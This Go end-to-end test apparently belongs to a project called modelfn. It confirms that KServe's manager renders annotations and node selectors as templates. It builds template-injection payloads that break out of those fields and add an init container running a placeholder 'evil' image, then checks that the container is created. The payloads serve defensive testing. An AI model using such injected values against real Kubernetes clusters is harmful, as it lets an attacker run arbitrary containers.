package e2e_test

import (
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/modelfn/modelfn/e2e/internal/cluster"
)

// templated is JSON as text without a quote, that KServe's Go templates turn into
// that JSON again: behind it a text is no longer one.
func templated(json string) string {
	return "{{$q:=printf `%c` 34}}" + strings.ReplaceAll(strings.ReplaceAll(json, `{"`, `{ "`), `"`, "{{$q}}")
}

// TestKServeExecutesTemplates: KServe's manager executes a large language model's
// object as a template, so that an annotation or the label of a node becomes a
// container. It is why modelfn refuses such texts (rule template), and its policy,
// too. Should a later KServe be careful, this says so.
func TestKServeExecutesTemplates(t *testing.T) {
	const evil = "registry.example.com/evil@sha256:833e6dd83a2276a104b53646c055a970e321d555817308e4fc542a6622e171f5"
	inPod := templated(`x"}}},"metadata":{"annotations":{"y":"z"}},"spec":{"template":{"initContainers":[{"name":"evil","image":"` + evil + `"}],"nodeSelector":{"a":"b`)
	inMetadata := templated(`x"}},"spec":{"template":{"initContainers":[{"name":"evil","image":"` + evil + `"}]}},"metadata":{"annotations":{"y":"z`)
	c := kserve.Get(t)
	for name, tt := range map[string]struct {
		path  []string
		value any
	}{
		"annotation": {[]string{"metadata", "annotations"}, map[string]any{"modelfn.dev/run": inMetadata}},
		"selector":   {[]string{"spec", "template", "nodeSelector"}, map[string]any{"a": inPod}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel() // each waits for the manager
			var services []*cluster.Object
			for _, o := range ofKind(parse(t, read(t, "../testdata/llm/expected.yaml")), "LLMInferenceService") {
				if err := unstructured.SetNestedField(o.Object, tt.value, tt.path...); err != nil {
					t.Fatal(err)
				}
				services = append(services, o)
			}
			enter(t, c, "template-"+name, services)
			d := made(t, c, services[0], "apps/v1", "Deployment", "-kserve")
			if got := container(t, podSpec(t, d), "evil")["image"]; got != evil {
				t.Errorf("it runs %v", got)
			}
		})
	}
}
